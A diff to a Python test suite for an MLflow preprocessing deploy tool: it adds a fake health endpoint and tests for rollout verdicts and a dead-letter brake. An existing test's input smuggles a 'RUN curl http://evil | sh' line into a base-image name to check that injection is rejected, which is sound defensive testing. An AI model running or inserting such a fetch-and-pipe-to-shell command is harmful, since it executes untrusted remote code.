@@ -143,3 +143,42 @@ def test_no_dockerfile_is_written_from_a_bad_base_image(tmp_path):
     (tmp_path / "requirements.txt").write_text("mlflow\n")
     with pytest.raises(BuildError, match="is not a Docker image reference"):
         prepare_context(tmp_path, "python:3.11-slim\nRUN curl http://evil | sh", None)
+
+
+# ---- a rollout waits for a verdict on the new version, and a tripped brake fails it ------
+
+@pytest.fixture
+def fake_consumer_health():
+    """A consumer's /healthz on loopback (FakeConsumerHealth: a real stream in the Docker
+    tests), answering what the test sets."""
+    from conftest import JsonHandler, serve_on_loopback
+
+    answer = {"status": 200, "body": {}}
+
+    class Handler(JsonHandler):
+        def do_GET(self):  # noqa: N802
+            self.answer(answer["status"], answer["body"])
+
+    server = serve_on_loopback(Handler)
+    yield server.server_port, answer
+    server.shutdown()
+
+
+def test_a_consumer_is_healthy_once_joined_and_settled_and_a_tripped_brake_fails_at_once(
+        fake_consumer_health):
+    from mlflow_preproc.deploy.docker_backend import NotHealthy, _is_healthy
+    from mlflow_preproc.deploy.spec import ContainerSpec
+
+    port, answer = fake_consumer_health
+    spec = ContainerSpec("c", "img", {}, {}, None, [port])
+    answer["body"] = {"status": "ok", "reason": "ok", "joined": True, "settled": False}
+    assert _is_healthy(spec) is False  # joined, but no verdict on the version yet
+    answer["body"]["settled"] = True
+    assert _is_healthy(spec) is True
+    answer["status"] = 503
+    answer["body"] = {"status": "stalled", "joined": True, "settled": True,
+                      "reason": "dead-letter brake engaged: 200 of the last 200 records ..."}
+    with pytest.raises(NotHealthy, match="failed: dead-letter brake engaged: 200 of"):
+        _is_healthy(spec)
+    answer["body"]["reason"] = "the loop made no progress for 130 s"
+    assert _is_healthy(spec) is False  # unhealthy for now: waited for until health_timeout
